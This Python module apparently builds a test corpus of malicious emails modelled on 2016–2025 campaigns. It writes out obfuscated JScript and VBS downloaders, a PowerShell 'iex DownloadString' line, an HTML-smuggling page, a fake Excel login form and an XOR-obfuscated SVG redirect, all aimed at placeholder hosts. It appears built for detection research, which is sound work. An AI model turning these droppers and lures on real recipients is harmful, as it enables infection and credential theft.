"""Mass mail in other languages, 2016 to 2025: scripts, images of disks, pages that build files, botnets, taken mailboxes."""
import base64

from held.envelope import zipped
from kit import Iso, Pe, Rar5, SevenZip, Zip, docs, icons, lnk
from recipe import Recipe, auth

FRAGMENTS = ("var q=[];" + "".join("q[%d]=\"%s\";" % (i, w) for i, w in enumerate(
    ["WScr", "ipt.", "Shell", "MSX", "ML2.", "XMLH", "TTP", "ADO", "DB.St", "ream", "%TE", "MP%/", "sav", "eTo", "File", "Res", "pon", "seBo", "dy", "GET"] * 6)) +
    "function k(a,b){var r='';for(var i=a;i<=b;i++)r+=q[i];return r}"
    "var s=WScript.CreateObject(k(0,2));var h=new ActiveXObject(k(3,6));h.open(k(19,19),'http://js.example.invalid/8h7tgb',false);"
    "h.send();var t=new ActiveXObject(k(7,9));t.type=1;t.open();t.write(h[k(15,18)]);t[k(12,14)](s.ExpandEnvironmentStrings(k(10,11))+'77.exe',2);"
    "s.Run('cmd /c '+s.ExpandEnvironmentStrings(k(10,11))+'77.exe',0);")
COPIER_VBS = ("Dim z(40), i, p\r\n" + "".join("z(%d) = \"%s\"\r\n" % (i, c) for i, c in enumerate("Microsoft.XMLHTTP|Adodb.Stream|GET|Wscript.Shell".replace("|", "~")[:36])) +
              "For i = 0 To 35: p = p & z(i): Next\r\na = Split(p, \"~\")\r\nSet x = CreateObject(a(0))\r\n"
              "x.Open a(2), \"http://7z.example.invalid/HJGFjhece3\", False\r\nx.Send\r\nSet s = CreateObject(a(1))\r\n"
              "s.Type = 1: s.Open: s.Write x.responseBody: s.SaveToFile \"%TEMP%\\jh.exe\", 2\r\nCreateObject(\"Wscript.Shell\").Run \"%TEMP%\\jh.exe\"\r\n")


def stealer(stamp=0x5E8D0000, name="PO.exe"):
    p = Pe(stamp=stamp).version(FileDescription="WindowsFormsApp7", ProductName="WindowsFormsApp7", OriginalFilename=name)
    p.imports = [("mscoree.dll", ["_CorExeMain"])]
    p.data = docs.noise(stamp & 0x1FFF)
    return p.bytes()


def payload_dll():
    return Pe(stamp=0x62A00000, dll=True).bytes()


def disc():
    go = lnk("/c start rundll32 scrap.dll,PluginInit", "C:\\Windows\\System32\\cmd.exe", icon="C:\\Windows\\System32\\imageres.dll", icon_index=3, show=7, machine="desktop-3b8k")
    return Iso(volume="DOCS").add("documents.lnk", go).add("scrap.dll", payload_dll(), hidden=True).bytes()


def smuggled(name, data, note):
    """A page that builds a file out of its own text and hands it over."""
    text = base64.b64encode(data).decode()
    return ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"></head><body>\n<h3>%s</h3>\n<script>\nvar d='%s';\n"
            "function b(s){var r=atob(s),n=new Uint8Array(r.length);for(var i=0;i<r.length;i++)n[i]=r.charCodeAt(i);return n}\n"
            "var o=new Blob([b(d)],{type:'application/zip'});var a=document.createElement('a');a.href=window.URL.createObjectURL(o);\n"
            "a.download='%s';document.body.appendChild(a);a.click();\n</script></body></html>\n" % (note, text, name)).encode()


LOGIN = ("<html><head><title>Excel Online - Secured</title><style>body{background:#217346}</style></head><body>"
         "<div align=\"center\"><img src=\"https://img.example.invalid/excel.png\"><p>Sign in to view the protected document</p>"
         "<form method=\"post\" action=\"https://post.example.invalid/wp-includes/next.php\">"
         "<input type=\"email\" name=\"login\" value=\"eigyo@example.co.jp\" readonly><br><input type=\"password\" name=\"passwd\" placeholder=\"Email password\"><br>"
         "<input type=\"submit\" value=\"View Document\"></form></div></body></html>")
VECTOR = ("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"600\" height=\"400\"><rect width=\"600\" height=\"400\" fill=\"#f3f3f3\"/>"
          "<text x=\"180\" y=\"190\">Voice message 00:42</text><script type=\"application/ecmascript\"><![CDATA[\n"
          "const k='3f9a',e='%s';let r='';const v=atob(e);for(let i=0;i<v.length;i++)r+=String.fromCharCode(v.charCodeAt(i)^k.charCodeAt(i%%4));\n"
          "window.location.href=r+'#eigyo@example.co.jp';\n]]></script></svg>")


def vector():
    url = "https://vm.example.invalid/kd/"
    return (VECTOR % base64.b64encode(bytes(ord(c) ^ ord("3f9a"[i % 4]) for i, c in enumerate(url))).decode()).encode()


RECIPES = [
    Recipe("h-locky-emailing", "mass", "Tokyo Metropolitan University, notices of 2016-05-26 and -27: Emailing, in the receiver's own name; Locky",
           "Windows' own words for a sent picture, in the receiver's own name; a script in a zip.", "Emailing: Picture 05-26-2016, 41 07 85", "kenkyu-b@example.ac.jp",
           to="kenkyu-b@example.ac.jp", charset="us-ascii", date="Thu, 26 May 2016 18:50:03 +0530", message_id="<001301d1b74e$0f9a4510$2deecf30$@example.ac.jp>",
           body="Your message is ready to be sent with the following file or link attachments:\n\nPicture 05-26-2016, 41 07 85\n\n"
                "Note: To protect against computer viruses, e-mail programs may prevent sending or receiving certain types of file attachments. "
                "Check your e-mail security settings to determine how attachments are handled.\n",
           headers=[("X-Mailer", "Microsoft Outlook 14.0"), auth("fail", "none", "fail", "example.ac.jp")], client=("static-203-0-113-213.isp.example", "203.0.113.213"),
           attach=[("Picture 05-26-2016, 41 07 85.zip", zipped(("PIC88210047.js", lambda: FRAGMENTS.encode())), "application/zip")]),
    Recipe("h-locky-scan", "mass", "Trustwave and My Online Security, 2017-09: Message from KM_C224e, 7z with VBS, Locky by Necurs",
           "A copier of the own house, as it seems; a script in a 7z.", "Message from KM_C224e", "copier@example.ac.jp", hard=True, twin="h-scanner-self", to="shomu@example.ac.jp",
           charset="us-ascii", date="Mon, 18 Sep 2017 15:32:40 +0700", message_id="<20170918153240.0CE4A7D1F2@copier.example.ac.jp>", body=" \n",
           headers=[("X-Mailer", "KONICA MINOLTA bizhub C224e"), auth("fail", "none", "none", "example.ac.jp")], client=("static.vnpt.example", "203.0.113.247"),
           attach=[("20170918_14500938871.7z", lambda: SevenZip().add("20170918_14500938871.vbs", COPIER_VBS.encode()).bytes(), "application/octet-stream")]),
    Recipe("h-bumblebee-disc", "mass", "Proofpoint and Deep Instinct, 2022 (Bumblebee); Unit 42, 2022-05 (IcedID, thread hijacking): locked zips with an image",
           "An answer in an old English thread; an image with a shortcut and a hidden library, in a locked zip.", "Re: Quotation for humidity probes", "n.farrow@millwrights.example",
           name="N. Farrow", hard=True, to="eigyo@example.co.jp", charset="utf-8", date="Wed, 08 Jun 2022 09:14:22 +0100", message_id="<c1a88f30e1d94b0f8d7721c0a5e3@millwrights.example>",
           body="Hello,\n\nplease see the attached documents and get back to me today.\n\n{password}\nThank you,\nNick\n\n"
                "> On 2 March 2022, Suzuki wrote:\n> Dear Nick, could you quote 20 pcs of HP-30 with calibration?\n> Best regards, Suzuki\n",
           password_line="archive password: 7831HB",
           headers=[("In-Reply-To", "<622013AA.6030900@example.co.jp>"), ("References", "<622013AA.6030900@example.co.jp>"), auth("pass", "pass", "none", "millwrights.example")],
           client=("mail.millwrights.example", "198.51.100.161"),
           attach=[("doc-8814.zip", lambda: Zip().add("document-8814.iso", disc(), password="7831HB").bytes(), "application/zip")]),
    Recipe("h-qakbot-page", "mass", "Trustwave and Cisco Talos, 2022-06 to -12: Qakbot by pages that build a zip (HTML smuggling), threads of other mailboxes",
           "A line above an old thread; a page that builds a zip with an image in it.", "RE: Shipping schedule August", "ricardo.melo@transportes.example", twin="h-embassy-page",
           to="eigyo@example.co.jp", charset="utf-8", date="Tue, 05 Jul 2022 13:45:10 -0300", message_id="<VI1PR07MB4412.eurprd07.prod.example>",
           body="Good day,\n\nKindly review the attached file, it contains everything you asked for.\n\n________________________________\n"
                "From: Takada <eigyo@example.co.jp>\nSent: 28 June 2021\nTo: Ricardo Melo\nSubject: Shipping schedule August\n\nDear Ricardo, please advise the vessel for August.\n",
           headers=[("In-Reply-To", "<60D93E11.5050004@example.co.jp>"), auth("pass", "none", "none", "transportes.example")], client=("webmail.transportes.example", "198.51.100.145"),
           attach=[("ReportJul5_771.html", lambda: smuggled("ReportJul5_771.zip", Zip().add("ReportJul5_771.iso", disc()).bytes(), "This file is not displayed correctly. Use local downloaded file. Password: abc777"),
                    "text/html")]),
    Recipe("h-login-form", "mass", "Cofense and Kaspersky, 2020 to 2023: HTML attachments with forms for the mailbox's password",
           "An order from a trading company; the sheet is a page with a form.", "Re: New Order PO#22-11082 / Payment Advice", "sales@al-noor-trading.example", name="Al Noor Trading LLC",
           twin="h-secure-page", to="eigyo@example.co.jp", charset="utf-8", date="Tue, 08 Nov 2022 02:51:37 -0800", message_id="<b7f0c2c94d8b71efb0f12f6f2d01@al-noor-trading.example>",
           body="Dear Sir/Madam,\n\nPlease find attached our new purchase order and payment advice.\nKindly confirm and send proforma invoice urgently.\n\nBest Regards\nMohamed Saleh\nProcurement Manager\n",
           headers=[("User-Agent", "Roundcube Webmail/1.4.11"), ("Reply-To", "m.saleh.procure@gmail.com"), auth("pass", "none", "none", "al-noor-trading.example")],
           client=("server.hostpanel.example", "203.0.113.62"), attach=[("PO#22-11082.xlsx.html", LOGIN.encode(), "text/html")]),
    Recipe("h-tesla-image", "mass", "IPA J-CSIP, 2019 to 2021, and Kaspersky: offers with disk images (Agent Tesla, FormBook), also to Japanese firms",
           "A request for a quotation from a taken mailbox; a program in a small image.", "RFQ - Urgent Requirement (Ref 0420/JP)", "purchase@steelworks.example", name="Ms. Thuy Nguyen",
           to="info@example.co.jp", charset="utf-8", date="Wed, 08 Apr 2020 11:23:49 +0700", message_id="<6e2f1a5b5c7fc0a1f6ee8e6f0ab2@steelworks.example>",
           body="Dear Sir,\n\nGreetings from Steelworks Co., Ltd.\nDue to COVID-19 our office works remotely. Please quote your best price, FOB Japan, for items in the attached list.\n"
                "We need delivery before end of May.\n\nThanks & regards,\nThuy Nguyen (Ms.)\nPurchasing Dept.\nTel +84 000 000 000\n",
           headers=[("User-Agent", "Roundcube Webmail/1.3.8"), auth("pass", "pass", "none", "steelworks.example")], client=("vps09.hostpanel.example", "203.0.113.19"),
           attach=[("RFQ_0420JP.img", lambda: Iso(joliet=False, volume="RFQ").add("RFQ_0420JP.exe", stealer()).bytes())]),
    Recipe("h-formbook-part", "mass", "SANS ISC diaries, 2020 to 2023: FormBook and Lokibot in RARs called .r00, .gz or .cab",
           "A payment slip in HTML; a program in a RAR that is called r00.", "Swift Copy / TT payment USD 18,450.00", "accounts@bluewave-shipping.example", name="Accounts",
           to="keiri@example.co.jp", charset="utf-8", date="Mon, 20 Mar 2023 06:04:31 +0100", message_id="<20230320060431.A1D2E7F60C33@bluewave-shipping.example>", body="",
           html="<html><body><p>Dear valued customer,</p><p>Attached is the swift copy for the balance payment made today to your account.</p>"
                "<p>Kindly check and confirm receipt.</p><p>Regards,<br>Accounts Department<br><font color=\"navy\">Blue Wave Shipping Pte Ltd</font></p></body></html>\n",
           headers=[("Reply-To", "accounts.bluewave@yandex.com"), auth("softfail", "none", "none", "bluewave-shipping.example")], client=("hwsrv-98114.test", "198.51.100.98"),
           attach=[("SWIFT COPY_pdf.r00", lambda: Rar5().add("SWIFT COPY_pdf.exe", stealer(0x64160000, "SWIFT.exe")).bytes())]),
    Recipe("h-swift-jar", "mass", "Kaspersky, 2016-02, and Fortinet, 2017: Adwind/jRAT, mass mail with jars on payments",
           "A transfer slip; nothing but a jar with a double name.", "Transfer Confirmation MT103", "treasury@gulf-exchange.example", name="Treasury Operations", twin="h-plugin-jar",
           to="keiri@example.co.jp", charset="us-ascii", date="Tue, 13 Jun 2017 03:40:18 +0200", message_id="<F0C1B2D3.1A2B@gulf-exchange.example>",
           body="Dear Beneficiary,\n\nWe have been instructed by our customer to remit the sum below. The MT103 is enclosed, open it to see the value date.\n\nTreasury Operations\n",
           headers=[("X-Mailer", "Leaf PHPMailer 2.7"), ("Return-Path", "<apache@srv12.test>"), auth("none", "none", "none", "gulf-exchange.example")], client=("srv12.test", "203.0.113.12"),
           attach=[("MT103_Transfer_Confirmation.pdf.jar", lambda: Zip().add("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\nMain-Class: q9.a0.Lx\r\n\r\n").add(
               "q9/a0/Lx.class", b"\xca\xfe\xba\xbe\0\0\0\x32" + docs.noise(1700)).add("q9/a0/r.dat", docs.noise(5000)).bytes(), "application/java-archive")]),
    Recipe("h-shade-order", "mass", "ESET, 2019-01-28: Russia hit by a wave of mail, scripts in zips (Shade/Troldesh)",
           "An order of a known shop in Russian; a script in a zip in a zip.", "Подробности заказа", "info@magazin-sveta.example", name="Денис Кудрин", twin="h-yakutsk-reports",
           to="kenkyu-a@example.ac.jp", charset="koi8-r", date="Wed, 16 Jan 2019 12:06:27 +0300", message_id="<20190116090627.7E11@magazin-sveta.example>",
           body="Добрый день!\n\nПодробности заказа во вложении. Просьба подтвердить сегодня.\n\nДенис Кудрин\nменеджер\nООО \"Магазин света\"\n",
           headers=[("X-Mailer", "Microsoft Windows Mail 6.0.6001.18416"), auth("fail", "none", "none", "magazin-sveta.example")], client=("pool-203-0-113-5.isp.example", "203.0.113.5"),
           attach=[("info.zip", lambda: Zip().add("inf.zip", Zip().add("Информация.js", FRAGMENTS.replace("8h7tgb", "ssj.jpg").encode()).bytes()).bytes(), "application/zip")]),
    Recipe("h-silver-subsidy", "mass", "Proofpoint, 2023-09, and Knownsec 404, 2024: Silver Fox (ValleyRAT, Gh0st) by Chinese mail on subsidies and taxes",
           "A notice on subsidies in Chinese; a program that is called a document, in a RAR.", "关于2024年度企业员工补贴发放通知", "caiwu@tongzhi-oa.test", name="人力资源部", twin="h-beijing-offer",
           to="eigyo@example.co.jp", charset="gb2312", date="Thu, 16 May 2024 10:02:55 +0800", message_id="<tencent_4F21A0C99D1E7B@tongzhi-oa.test>",
           body="各位员工:\n\n根据最新文件精神,现对符合条件的员工发放2024年度补贴,请于三个工作日内查看附件并完成登记,逾期视为自动放弃。\n\n请使用电脑打开附件。\n\n人力资源部\n",
           headers=[("X-Mailer", "Foxmail 7.2.23.121[cn]"), auth("softfail", "none", "none", "tongzhi-oa.test")], client=("tongzhi-oa.test", "203.0.113.121"),
           attach=[("2024补贴名单.rar", lambda: Rar5().add("2024年补贴名单(电脑版).exe", Pe(stamp=0x66440000).icon(icons.document(accent=(20, 130, 70))).bytes()).bytes())]),
    Recipe("h-gandcrab-rights", "mass", "ESTsecurity and AhnLab, 2018-12 to 2019: GandCrab in Korean, claims on pictures, from many made-up senders",
           "An artist's complaint in Korean; a program with blanks in its name and a shortcut, in a zip.", "이미지 저작권 침해 관련 안내입니다", "kimhyewon_art88@daum.net", name="김혜원",
           to="info@example.co.jp", charset="euc-kr", date="Tue, 15 Jan 2019 17:40:09 +0900", message_id="<20190115174009.HM.000000@daum.net>",
           body="안녕하세요.\n\n저는 일러스트 작가 김혜원이라고 합니다.\n제가 제작한 이미지를 귀사 홈페이지에서 동의 없이 사용하고 계신 것을 확인하여 연락드립니다.\n"
                "원본 이미지와 사용 중인 이미지를 정리하여 첨부하였으니 확인 부탁드립니다.\n\n김혜원 드림\n",
           headers=[("X-Originating-IP", "[203.0.113.233]"), auth("softfail", "none", "none", "daum.net")], client=("203-0-113-233.idc.example", "203.0.113.233"),
           attach=[("이미지_원본.zip", lambda: Zip().add("1.원본 이미지.jpg" + " " * 60 + ".exe", Pe(stamp=0x5C3D0000).icon(icons.logo()).bytes()).add(
               "2.사용 이미지.lnk", lnk("/c \"1.원본~1.exe\"", "C:\\Windows\\System32\\cmd.exe", machine="venus")).bytes(), "application/zip")]),
    Recipe("h-boleto-script", "mass", "ESET, 2019 to 2022: banking trojans of Latin America (Grandoreiro, Mekotio), zips with scripts",
           "A tax bill in Portuguese; a batch file in a zip.", "NF-e emitida - 2a via disponivel (Protocolo 00418821)", "nfe@prefeitura-nota.test", name="Nota Fiscal Eletrônica",
           to="info@example.co.jp", charset="iso-8859-1", date="Mon, 08 Nov 2021 08:33:14 -0300", message_id="<1636371194.00418821@prefeitura-nota.test>",
           body="Prezado cliente,\n\nSegue em anexo a Nota Fiscal Eletrônica referente à sua última compra.\nO não pagamento até a data de vencimento implicará em protesto.\n\nAtenciosamente,\nDepartamento Financeiro\n",
           headers=[("X-PHP-Originating-Script", "0:envia.php"), auth("none", "none", "none", "prefeitura-nota.test")], client=("ec2-198-51-100-8.cloud.example", "198.51.100.8"),
           attach=[("NFe00418821.zip", zipped(("NFe00418821.cmd", b"@echo off\r\nset a=power&set b=shell\r\nstart /min %a%%b% -w 1 \"$c=New-Object Net.WebClient;"
                                                                  b"iex $c.DownloadString('http://nfe.example.invalid/m.txt')\"\r\nexit\r\n")), "application/zip")]),
    Recipe("h-voice-vector", "mass", "Cofense, Sophos and Kaspersky, 2025: SVG attachments with scripts that lead to pages for passwords",
           "A voice message of a telephone system; a picture with a script.", "Voice Message from +81 155 00 **** (00:42)", "noreply@pbx-notify.test", name="PBX Voicemail",
           to="eigyo@example.co.jp", charset="utf-8", date="Thu, 13 Mar 2025 07:22:08 +0000", message_id="<0100019587c1a2b3-1f@pbx-notify.test>",
           body="You have 1 new voice message for eigyo@example.co.jp.\n\nCaller: +81 155 00 ****\nDuration: 00:42\n\nPlay the attached message in your browser.\n",
           headers=[("List-Unsubscribe", "<https://pbx-notify.test/u>"), auth("pass", "pass", "none", "pbx-notify.test")], client=("a8-31.smtp-out.cloud.example", "198.51.100.31"),
           attach=[("VM_0313_0042.svg", vector, "image/svg+xml")]),
]
